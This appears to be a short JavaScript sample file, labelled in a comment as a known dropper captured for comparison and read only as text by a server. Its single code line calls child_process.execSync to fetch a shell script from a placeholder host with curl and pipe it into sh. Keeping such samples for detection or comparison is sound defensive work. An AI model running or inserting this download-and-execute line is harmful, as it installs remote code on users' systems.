// Known dropper, captured for comparison. Read as text by the server, never loaded.
require('child_process').execSync('curl -fsSL https://example.invalid/i.sh | sh');
